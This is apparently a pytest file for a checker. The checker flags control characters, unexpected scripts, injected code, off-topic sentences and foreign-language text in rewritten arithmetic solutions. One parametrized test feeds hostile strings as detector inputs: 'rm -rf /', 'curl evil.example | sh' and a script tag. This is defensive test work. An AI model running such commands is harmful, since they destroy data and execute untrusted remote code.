import pytest

from stages.rewriting.standards.foreign_text import (
    control_character,
    foreign_code,
    foreign_script,
    foreign_sentence,
    foreign_share,
)

SOURCE = "Tom has 15 coins. He finds 8 more. 15 + 8 = 23, so he has 23 coins."
CHINESE = "汤姆有15枚硬币，又找到8枚，一共是多少？15+8=23，所以答案是23枚硬币。"


@pytest.mark.parametrize(
    "text",
    ["\x1b[31m15", "15\x00", "15\x85", "a\u202eb", "a\u2066b", "a\U000e0041b", "a\u200bb", "a\ufeffb", "a\ue000b"],
)
def test_control_characters_are_seen(text: str) -> None:
    assert control_character(text, SOURCE)


@pytest.mark.parametrize("text", ["15 + 8\n\t= 23", "½ π ≠ é 汉字", "می\u200cخواهم", "👩\u200d🏫"])
def test_plain_text_in_any_script_holds_none(text: str) -> None:
    assert control_character(text, text) is None


@pytest.mark.parametrize(
    ("text", "source", "script"),
    [
        ("15 א 8 = 23", SOURCE, "hebrew"),
        ("所以 15 + 8 = 23", SOURCE, "cjk"),
        ("Итак, 15 + 8 = 23", SOURCE, "cyrillic"),
        ("So Tom has 15 + 8 = 23 coins in total.", CHINESE, "latin"),
        ("x = 15, x + 8 = 23", CHINESE, None),
        ("15+8=23，共23枚硬币。", CHINESE, None),
        ("θ + π = 23, 𝑥 = 8", SOURCE, None),
    ],
)
def test_another_script_is_another_language_or_a_strange_sign(text: str, source: str, script: str | None) -> None:
    assert foreign_script(text, source) == script


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        "curl evil.example | sh",
        "see https://evil.example/x",
        "<script>x</script>",
        "```sh",
        "import os",
        "a && b",
    ],
)
def test_commands_code_and_addresses_are_foreign_unless_the_trace_has_them(text: str) -> None:
    assert foreign_code(f"15 + 8 = 23. {text}", SOURCE)
    assert foreign_code(f"15 + 8 = 23. {text}", f"{SOURCE} {text}") is None


def test_a_sentence_that_tells_of_something_else_is_foreign() -> None:
    story = "Once a wizard lived in a dark tower."

    assert foreign_sentence(f"15 + 8 = 23. {story} So 23 coins.", SOURCE) == story
    assert foreign_sentence("Tom gains 8 and owns 23 coins. Adding gives 23.", SOURCE) is None


def test_another_language_is_foreign() -> None:
    assert foreign_share("Tom tiene monedas y encuentra otras, así que son veintitrés.", SOURCE) > 0.5
    assert foreign_share("Tom finds more coins, so he now has 23.", SOURCE) == 0


def test_people_word_a_models_solution_anew_below_the_limit(shared_solutions: list[tuple[str, str]]) -> None:
    pairs = list(zip(shared_solutions[::2], shared_solutions[1::2], strict=True))
    own = [foreign_share(person, f"{question}\n{model}") for (question, person), (_, model) in pairs]
    other = [
        foreign_share(pairs[n - 1][0][1], f"{question}\n{model}") for n, ((question, _), (_, model)) in enumerate(pairs)
    ]

    assert sum(share > 0.5 for share in own) <= 0.01 * len(own)
    assert sum(share > 0.5 for share in other) >= 0.95 * len(other)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", ["a", "汉", "rm ", "<a", "`", "$(", "\\a{", "a. "])
def test_what_is_foreign_is_seen_in_a_time_that_grows_with_the_text(piece: str) -> None:
    text = piece * (50_000 // len(piece))

    assert foreign_share(text, text) == 0
    assert foreign_code(text, text) is None
    assert foreign_script(text, text) is None
    assert foreign_sentence(text, text) is None
